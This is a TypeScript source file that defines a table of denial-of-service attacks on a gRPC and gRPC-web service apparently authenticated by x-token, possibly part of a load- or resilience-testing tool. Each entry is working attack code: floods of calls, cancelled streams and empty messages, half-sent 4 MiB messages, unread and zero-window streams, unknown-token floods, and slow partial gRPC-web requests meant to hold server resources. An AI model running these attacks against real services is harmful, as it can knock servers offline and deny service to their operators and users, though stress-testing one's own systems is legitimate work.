// Attacks of one x-token by gRPC and gRPC-web.
import { type Attacker, inTurn } from '../attacker/attacker.ts'
import { grpcMessage, unknownToken } from '../attacker/calls.ts'
import { completeRequest } from '../attacker/http1.ts'
import { type Fields, Http2Connection, type Http2Options } from '../attacker/http2.ts'
import type { AttackTable } from './attack.ts'

const unary = '/geyser.Geyser/GetSlot'
const stream = '/geyser.Geyser/Subscribe'
const web = { 'content-type': 'application/grpc-web+proto', 'x-grpc-web': '1' }
const empty = grpcMessage(Buffer.alloc(0))

/** Attacks by gRPC. */
export const grpcAttacks: AttackTable = {
  'grpc:unfinished-calls': (attacker) => {
    repeatOver(attacker, 40, 10_000, {}, (connection) => {
      if (connection.openStreams < 1_000) connection.request('POST', unary, fieldsOf(attacker), false)
    })
  },
  // The head of a message announces 4 MiB, and all but the last of them follow.
  'grpc:unfinished-messages': (attacker) => {
    const message = grpcMessage(Buffer.alloc(4 << 20)).subarray(0, -1)
    repeatOver(attacker, 16, 16, {}, (connection) => {
      if (connection.openStreams > 15) return
      connection.data(connection.request('POST', stream, fieldsOf(attacker), false), message)
    })
  },
  'grpc:empty-messages': (attacker) => {
    const many = Buffer.concat(Array.from({ length: 3_000 }, () => empty))
    const streams = new WeakMap<Http2Connection, number>()
    repeatOver(attacker, 8, 50, {}, (connection) => {
      const id = streams.get(connection) ?? connection.request('POST', stream, fieldsOf(attacker), false)
      streams.set(connection, id)
      connection.data(id, many)
    })
  },
  'grpc:calls': (attacker) => {
    repeatOver(attacker, 8, 1_000, {}, (connection) => {
      connection.data(connection.request('POST', unary, fieldsOf(attacker), false), empty, true)
    })
  },
  'grpc:cancelled-calls': (attacker) => {
    repeatOver(attacker, 8, 5_000, {}, (connection) => {
      const id = connection.request('POST', stream, fieldsOf(attacker), false)
      connection.data(id, empty)
      connection.reset(id)
    })
  },
  'grpc:unread-streams': (attacker) => {
    repeatOver(attacker, 50, 500, { reads: false }, (connection) => {
      if (connection.openStreams < 4) subscribe(connection, attacker)
    })
  },
  'grpc:zero-window-streams': (attacker) => {
    repeatOver(attacker, 8, 500, { window: 0 }, (connection) => {
      if (connection.openStreams < 25) subscribe(connection, attacker)
    })
  },
  'grpc:unknown-x-tokens': (attacker) => {
    let number = 0
    repeatOver(attacker, 8, 950, {}, (connection) => {
      number += 1
      const fields = fieldsOf(attacker, unknownToken(number))
      connection.data(connection.request('POST', unary, fields, false), empty, true)
    })
  },
  'grpc-web:unfinished-messages': (attacker) => {
    const { authority: host, xTokens } = attacker.target
    const headers = { host, ...web, 'x-token': xTokens[0] ?? '' }
    const body = grpcMessage(Buffer.alloc(4 << 20))
    const partial = completeRequest('POST', unary, headers, body).subarray(0, -1)
    attacker.hold(200, () => {
      const connection = attacker.connect()
      void connection.opened.then(() => connection.write(partial))
      return connection
    })
  },
  'grpc-web:unread-streams': (attacker) => {
    const { authority: host, xTokens } = attacker.target
    const request = completeRequest('POST', stream, { host, ...web, 'x-token': xTokens[0] ?? '' }, empty)
    attacker.hold(300, () => {
      const connection = attacker.connect({ reads: false })
      void connection.opened.then(() => connection.write(request))
      return connection
    })
  },
}

function fieldsOf({ target }: Attacker, xToken = target.xTokens[0] ?? ''): Fields {
  return [
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ['x-token', xToken],
  ]
}

function subscribe(connection: Http2Connection, attacker: Attacker): void {
  connection.data(connection.request('POST', stream, fieldsOf(attacker), false), empty)
}

function repeatOver(
  attacker: Attacker,
  connections: number,
  perSecond: number,
  options: Http2Options,
  unit: (connection: Http2Connection) => void,
): void {
  const { grpcAuthority: authority } = attacker.target
  const next = inTurn(
    attacker.hold(connections, () => new Http2Connection(attacker, { authority, ...options })),
  )
  attacker.repeat(perSecond, () => {
    const connection = next()
    if (connection?.isWritable === true) unit(connection)
  })
}
